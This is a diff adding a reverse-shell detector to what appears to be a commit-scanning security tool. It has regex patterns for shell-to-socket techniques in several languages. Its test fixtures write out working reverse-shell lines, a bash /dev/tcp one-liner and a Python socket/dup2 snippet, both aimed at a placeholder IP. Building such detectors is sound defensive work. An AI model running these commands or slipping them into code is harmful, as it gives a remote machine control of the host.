@@ -1,0 +1,134 @@
+import { z } from "zod";
+import { defineDetector, type Signal } from "../../model/detector.ts";
+import { aCommit, aFile } from "../../model/examples.ts";
+import { visible } from "../../text/lines.ts";
+import { newCode, newText } from "../../text/new-lines.ts";
+import { isIdle, placeOf } from "../../text/places.ts";
+
+const DEVICE = ["/dev", "tcp"].join("/");
+
+/** One line that connects a shell to somebody else's machine. */
+const ONE_LINE =
+  /\b(?:ba|z|k)?sh\s{1,3}-i\b[^\n]{0,40}(?:>&|&>|>)\s{0,3}\/dev\/(?:tcp|udp)\/|\bexec\s{1,3}\d{1,3}<>\s{0,2}\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\s[^\n|;]{0,80}(?:\s-\w{0,4}e\s{0,3}|--exec\s{1,3}|--sh-exec\s{1,3})["']?(?:\/bin\/|\/usr\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell)\b|\bmkfifo\s[^\n]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\s[^\n]{0,60}\|\s{0,3}(?:nc|ncat|openssl\s{1,3}s_client)\b|\bsocat\s[^\n]{0,80}exec:["']?(?:\/bin\/)?(?:ba)?sh\b|\bphp\s{1,3}-r\s[^\n]{0,40}fsockopen\(/i;
+/** Parts that only together connect a shell: a socket, its descriptors put in place of the standard ones, a shell. */
+const PARTS: readonly (readonly RegExp[])[] = [
+  [
+    /\bsocket\.socket\s{0,2}\(/,
+    /\.connect\s{0,2}\(\s{0,2}\(/,
+    /\bos\.dup2\s{0,2}\(|\bpty\.spawn\s{0,2}\(/,
+    /["']\/bin\/(?:ba|z)?sh["']|pty\.spawn/,
+  ],
+  [
+    /\bnet\.(?:Socket|connect|createConnection)\b/,
+    /\bspawn\s{0,2}\(\s{0,2}["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["']/,
+    /\.pipe\s{0,2}\(\s{0,2}\w{1,20}\.stdin\b|\.stdout\.pipe\s{0,2}\(/,
+  ],
+  [
+    /\bnet\.Dial\s{0,2}\(\s{0,2}"(?:tcp|udp)/,
+    /\bexec\.Command\s{0,2}\(\s{0,2}"(?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell)/,
+    /\.Std(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\b/,
+  ],
+  [/\bNet\.Sockets\.TCPClient\b/i, /\b(?:iex|Invoke-Expression)\b/i, /\bGetStream\s{0,2}\(/i],
+  [
+    /\bTCPSocket\.(?:new|open)\b/,
+    /\bexec\s{1,3}["'](?:\/bin\/)?(?:ba)?sh|IO\.popen|\$stdin\.reopen/,
+    /fileno|reopen|popen/,
+  ],
+  [/\bfsockopen\s{0,2}\(/, /\b(?:proc_open|shell_exec|exec)\s{0,2}\(/, /["']\/bin\/(?:ba)?sh/],
+];
+
+export default defineDetector({
+  id: "reverse-shell",
+  title: "A shell is handed to another machine",
+  family: "content",
+  axis: "attack",
+  group: "payload",
+  stage: "stable",
+  since: "0.1.0",
+  rationale:
+    "A shell whose input and output are a connection to another machine gives that machine everything its user can do. No program needs one.",
+  falsePositives: [
+    "Security tools and lessons that carry such samples outside a test or documentation folder",
+    "Remote consoles",
+  ],
+  remedy: "Cut the machines that ran it off, then look at what was done through it.",
+  references: ["ATT&CK T1059", "ATT&CK T1571", "CWE-506"],
+  needs: ["diff"],
+  options: z.strictObject({}),
+  examples: {
+    flags: [
+      {
+        name: "one line of a shell",
+        commit: aCommit({
+          files: [aFile({ path: "scripts/ci.sh", added: `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, at: 3 })],
+        }),
+      },
+      {
+        name: "a socket in place of the standard streams",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "app/a.py",
+              added:
+                's = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
+              at: 3,
+            }),
+          ],
+        }),
+      },
+    ],
+    passes: [
+      {
+        name: "a port that is only probed",
+        commit: aCommit({
+          files: [
+            aFile({
+              path: "scripts/wait.sh",
+              added: `until (echo > ${DEVICE}/db/5432) 2>/dev/null; do sleep 1; done`,
+              at: 3,
+            }),
+          ],
+        }),
+      },
+      {
+        name: "a lesson",
+        commit: aCommit({
+          files: [aFile({ path: "docs/shells.md", added: `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, at: 3 })],
+        }),
+      },
+    ],
+  },
+  detect(commit) {
+    return commit.files.flatMap((file): Signal[] => {
+      const place = placeOf(file.path);
+      if (isIdle(place)) return [];
+      const text = newText(commit, file);
+      if (!/\/dev\/(?:tcp|udp)|\bn(?:et)?cat?\b|socat|[Ss]ocket|net\.|fsockopen|TCPClient/.test(text)) return [];
+      const test = place === "test";
+      const line = newCode(commit, file).find((one) => ONE_LINE.test(visible(one)));
+      const base = { path: file.path, confidence: test ? 0.6 : 1 };
+      if (line)
+        return [
+          {
+            ...base,
+            strength: test ? "medium" : "strong",
+            because: "the line connects a shell to another machine",
+            line: line.number,
+          },
+        ];
+      const parts = PARTS.find((one) => one.every((part) => part.test(text)));
+      const first = parts && newCode(commit, file).find((one) => parts[0]?.test(visible(one)));
+      return parts
+        ? [
+            {
+              ...base,
+              strength: test ? "weak" : "strong",
+              confidence: test ? 0.5 : 0.9,
+              because: "a connection takes the place of a shell's input and output",
+              line: first?.number ?? 1,
+            },
+          ]
+        : [];
+    });
+  },
+});
